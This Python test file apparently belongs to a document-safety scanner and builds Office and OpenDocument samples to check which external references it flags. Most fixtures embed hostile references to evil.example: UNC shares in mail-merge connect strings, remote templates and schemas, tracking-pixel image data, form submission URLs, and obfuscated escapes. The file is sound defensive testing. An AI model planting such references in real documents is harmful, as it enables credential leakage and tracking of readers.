"""Packages of Office and OpenDocument: no attribute of any part may lead somewhere, but where a person reads or follows it."""

from __future__ import annotations

import pytest

from tests.attacks.books import changed
from tests.workbooks.test_harmless import PICTURE, docx, opendocument, relation, xlsx
from workbooks.harmless import Fitness, look_through

SHARE = r"\\evil.example\share\a"
SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def with_settings(settings: str, spaces: str = "") -> bytes:
    """Return a document of Word with settings."""
    made = f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{WORD}" {spaces}>{settings}</w:settings>'
    return docx("<w:p/>", relation("settings", "settings.xml", "Internal"), word__settings_xml=made)


def in_part(part: str, before: str, piece: str) -> bytes:
    """Return a workbook with a piece of XML before an end tag of a part."""
    return changed(xlsx(), part, lambda content: content.replace(before.encode(), piece.encode() + before.encode()))


MERGE = (
    f'<w:mailMerge><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source={SHARE}.mdb"/>'
    f'<w:odso><w:udl w:val="Provider=x;Data Source={SHARE}.mdb"/></w:odso></w:mailMerge>'
)
ESCAPED = "".join(f"&#{ord(sign)};" for sign in SHARE)


@pytest.mark.parametrize(
    "data",
    [
        with_settings(MERGE),
        with_settings('<w:mailMerge><w:query w:val="SELECT * FROM a"/></w:mailMerge>'),
        with_settings(f'<w:a w:val="{ESCAPED}"/>'),
        with_settings('<w:a w:val="file:///c:/a"/>'),
        with_settings('<w:a w:val="FI&#76;E:///c:/a"/>'),
        with_settings('<w:a w:val="x ftp://evil.example/a"/>'),
        with_settings('<w:attachedSchema w:val="http://evil.example/x"/>'),
        with_settings('<w:a w:val="//evil.example/x"/>'),
        with_settings(f"<w:a w:val=' xmlns:x=&quot;http://a&quot; {SHARE}'/>"),
        with_settings(f"<w:a w:x='xmlns=' w:val=\"{SHARE}\" w:y=' '/>"),
        docx(f'<w:p><w:r><w:t w:anything="{SHARE}"/></w:r></w:p>'),
    ],
)
def test_a_document_of_word_acts_by_an_attribute_that_leads_somewhere(data: bytes) -> None:
    """Whatever it is called, and however it is written: a share, a file, an address of any scheme."""
    assert look_through(data, "a.docx").fitness is Fitness.ACTIVE


PUBLISHED = '<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="{}" autoRepublish="1"/>'


@pytest.mark.parametrize(
    "data",
    [
        in_part(SHEET, "</worksheet>", PUBLISHED.format(f"{SHARE}.htm") + "</webPublishItems>"),
        in_part(SHEET, "</worksheet>", PUBLISHED.format("C:\\a.htm") + "</webPublishItems>"),
        in_part(BOOK, "</workbook>", '<webPublishObjects><webPublishObject id="1" divId="x" destinationFile="a"/></webPublishObjects>'),
        in_part(
            BOOK, "</workbook>", '<smartTagTypes><smartTagType namespaceUri="x" name="y" url="http://evil.example/x"/></smartTagTypes>'
        ),
        in_part(SHEET, "</worksheet>", f'<a b="{SHARE}"/>'),
        in_part("xl/_rels/workbook.xml.rels", "</Relationships>", relation("image", SHARE, "Internal")),
        in_part("xl/_rels/workbook.xml.rels", "</Relationships>", relation("image", "http://evil.example/a.png", "Internal")),
        in_part("xl/_rels/workbook.xml.rels", "</Relationships>", relation("hyperlink", "http://evil.example/a", "Internal")),
    ],
)
def test_a_workbook_acts_by_an_attribute_that_leads_somewhere(data: bytes) -> None:
    """Also where it is saved again as a page whenever it is saved."""
    assert look_through(data, "a.xlsx").fitness is Fitness.ACTIVE


XFORMS, FORM = 'xmlns:xforms="http://www.w3.org/2002/xforms"', 'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"'


@pytest.mark.parametrize(
    "body",
    [
        f'<xforms:model {XFORMS}><xforms:instance id="I" src="http://evil.example/collect"/></xforms:model>',
        f'<xforms:model {XFORMS}><xforms:instance id="I" src="data.xml"/></xforms:model>',
        f'<xforms:model {XFORMS} schema="schema.xsd"/>',
        f'<form:form {FORM} form:datasource="file:////evil.example/share/x.odb" form:command="T"/>',
        f'<form:image-frame {FORM} form:image-data="http://evil.example/pixel.png"/>',
        f'<form:image-frame {FORM} form:image-data="pixel.png"/>',
        f'<form:form {FORM} xlink:href="http://evil.example/collect"/>',
        '<text:a xlink:href="//evil.example/share">x</text:a>',
        '<text:a xlink:href="vnd.sun.star.script:x">x</text:a>',
        f'<text:database-display text:database-name="{SHARE}"/>',
        '<text:p text:anything="smb://evil.example/share"/>',
        '<text:p text:anything="https://evil.example/share"/>',
    ],
)
@pytest.mark.parametrize("part", ["content_xml", "styles_xml", "meta_xml", "settings_xml"])
def test_a_package_of_opendocument_acts_by_an_attribute_that_leads_somewhere(body: str, part: str) -> None:
    """In forms, where only links were looked at, and in every part."""
    root = opendocument(body) if part == "content_xml" else opendocument("<text:p/>", **{part: spaced(body)})
    assert look_through(root, "a.odt").fitness is Fitness.ACTIVE


def spaced(body: str) -> str:
    """Return a part of a package of OpenDocument."""
    spaces = ('text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"', 'xlink="http://www.w3.org/1999/xlink"')
    return f"<a {' '.join(f'xmlns:{one}' for one in spaces)}>{body}</a>"


def test_a_template_on_a_share_is_looked_for_when_a_text_is_opened() -> None:
    """LibreOffice asks whether it has changed."""
    for target in (r"\\evil.example\share\a.ott", "file://evil.example/a.ott", "//evil.example/a.ott"):
        made = opendocument("<text:p/>", meta_xml=spaced(f'<meta:template xmlns:meta="m" xlink:href="{target}"/>'))
        assert look_through(made, "a.odt").fitness is Fitness.ACTIVE


CUSTOM = (
    '<p:properties xmlns:p="http://schemas.microsoft.com/office/2006/metadata/properties"><xsd:schema '
    'xmlns:xsd="http://www.w3.org/2001/XMLSchema" targetNamespace="http://schemas.microsoft.com/office/2006/metadata/properties">'
    '<xsd:import namespace="http://purl.org/dc/terms/" schemaLocation="http://dublincore.org/schemas/xmls/qdc/2003/04/02/dcterms.xsd"/>'
    "</xsd:schema></p:properties>"
)
DRAWING_ML = "http://schemas.openxmlformats.org/drawingml/2006"


@pytest.mark.parametrize(
    "data",
    [
        with_settings('<w:compat><w:compatSetting w:name="a" w:uri="http://schemas.microsoft.com/office/word" w:val="15"/></w:compat>'),
        with_settings(f'<w:hdrShapeDefaults><o:a o:ext="edit" o:title="{SHARE}"/></w:hdrShapeDefaults>', 'xmlns:o="o"'),
        docx(
            f'<w:p><a:graphicData xmlns:a="a" uri="{DRAWING_ML}/picture"><a:docPr descr="{SHARE}.png" title="file://x"/></a:graphicData></w:p>'
        ),
        docx('<w:hyperlink w:tooltip="https://ministry.example/a"/>', relation("hyperlink", "https://ministry.example/")),
        docx("<w:p/>", relation("customXml", "../customXml/item1.xml", "Internal"), customXml__item1_xml=CUSTOM),
        docx("<w:p><w:r><w:t>See \\\\server\\share, file:///a or ftp://b.</w:t></w:r></w:p>"),
        docx('<w:p><w:fldSimple w:instr="HYPERLINK &quot;https://ministry.example/&quot;"/></w:p>'),
        docx("<w:sdt><w:dataBinding w:prefixMappings=\"xmlns:ns0='http://purl.org/dc/elements/1.1/'\" w:xpath='/ns0:a[1]'/></w:sdt>"),
        docx("<m:oMath xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'><m:f><m:num>f(x)</m:num></m:f></m:oMath>"),
    ],
)
def test_texts_and_namespaces_of_a_letter_lead_nowhere(data: bytes) -> None:
    """What a person reads, the names of what the XML is about, and links that are looked at by themselves."""
    assert look_through(data, "a.docx").fitness is Fitness.HARMLESS


SAVED_BY_EXCEL = (
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x15"><x15ac:absPath '
    'url="{}" xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"/></mc:Choice></mc:AlternateContent>'
)


@pytest.mark.parametrize(
    "data",
    [
        in_part(BOOK, "</workbook>", SAVED_BY_EXCEL.format("C:\\Users\\Keller\\Documents\\")),
        in_part(BOOK, "</workbook>", SAVED_BY_EXCEL.format("\\\\server\\statistics\\2024\\")),
        in_part(BOOK, "</workbook>", SAVED_BY_EXCEL.format("https://ministry.sharepoint.example/sites/a/")),
        in_part(SHEET, "</worksheet>", '<dataValidation prompt="See https://ministry.example/" promptTitle="//" error="\\\\"/>'),
        in_part(SHEET, "</worksheet>", '<autoFilter><filters><filter val="https://ministry.example/"/></filters></autoFilter>'),
        in_part(SHEET, "</worksheet>", '<hyperlinks><hyperlink ref="A1" location="Sheet!A1" display="https://a.example/"/></hyperlinks>'),
        in_part(SHEET, "</worksheet>", '<numFmt formatCode="0\\\\a//b"/>'),
        in_part(SHEET, "</worksheet>", "<extLst><ext uri='{78C0D931-6437-407d-A8EE-F0AAD7539E65}'/></extLst>"),
        in_part(SHEET, "</worksheet>", f"<c><is><t>{SHARE} file:///x</t></is></c>"),
        in_part("docProps/app.xml", "</Properties>", f"<Template>{SHARE}</Template>"),
    ],
)
def test_what_excel_writes_of_itself_leads_nowhere(data: bytes) -> None:
    """Where a workbook was saved, what its cells say to whoever fills them, and how figures look."""
    assert look_through(data, "a.xlsx").fitness is Fitness.HARMLESS


RDF = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="styles.xml">'
    '<rdf:type rdf:resource="http://docs.oasis-open.org/ns/office/1.2/meta/odf#StylesFile"/></rdf:Description></rdf:RDF>'
)


@pytest.mark.parametrize(
    "data",
    [
        opendocument("<text:p/>", manifest_rdf=RDF, settings_xml="<a/>", Configurations2__accelerator__current_xml=""),
        opendocument('<grddl:x xmlns:grddl="g" grddl:transformation="http://docs.oasis-open.org/office/1.2/xslt/odf2rdf.xsl"/>'),
        opendocument('<table:table-cell xmlns:office="o" office:string-value="https://ministry.example/ \\\\server\\a"/>'),
        opendocument('<text:a xlink:href="https://ministry.example/" office:name="https://ministry.example/" xmlns:office="o">x</text:a>'),
        opendocument(
            '<draw:a xlink:href="mailto:a@ministry.example"><draw:image xlink:href="Pictures/1.png"/></draw:a>', Pictures__1_png=PICTURE
        ),
        opendocument(f'<form:form {FORM} form:control-implementation="ooo:com.sun.star.form.component.Form" xlink:href=""/>'),
        opendocument('<table:table-cell table:formula="of:=SUM([.A1:.A2])" table:range="Sheet1.A1:Sheet1.B2"/>'),
        opendocument("<text:p/>", meta_xml=spaced('<meta:template xmlns:meta="m" xlink:href="../Templates/Letter.ott"/>')),
        opendocument("<text:p>See \\\\server\\share, file:///a or ftp://b.</text:p>"),
    ],
)
def test_what_libreoffice_writes_of_itself_leads_nowhere(data: bytes) -> None:
    """Names of kinds and of programs, links for people, texts of cells, ranges of cells, and a template beside the text."""
    assert look_through(data, "a.odt").fitness is Fitness.HARMLESS


def test_a_hyperlink_of_the_package_is_looked_at_by_itself() -> None:
    """To a page or a mailbox, and out of the package."""
    assert look_through(docx(relation=relation("hyperlink", "https://a.example/", "External")), "a.docx").fitness is Fitness.HARMLESS
    assert look_through(docx(relation=relation("hyperlink", SHARE, "External")), "a.docx").fitness is Fitness.ACTIVE


def test_how_fonts_would_end_may_be_declared_but_none_may_be_brought() -> None:
    """As LibreOffice 26 does in every workbook; another kind of the same sort acts, and so does a font, which nobody here reads."""
    kinds = {kind: f'<Default Extension="fntdata" ContentType="application/{kind}"/>' for kind in ("x-fontdata", "x-fontdata+a", "x-flash")}
    assert look_through(docx(types=kinds["x-fontdata"]), "a.docx").fitness is Fitness.HARMLESS
    assert look_through(docx(types=kinds["x-fontdata+a"]), "a.docx").fitness is Fitness.ACTIVE
    assert look_through(docx(types=kinds["x-flash"]), "a.docx").fitness is Fitness.ACTIVE
    assert look_through(docx(types=kinds["x-fontdata"], word__fonts__a_fntdata=b"font"), "a.docx").fitness is Fitness.ACTIVE
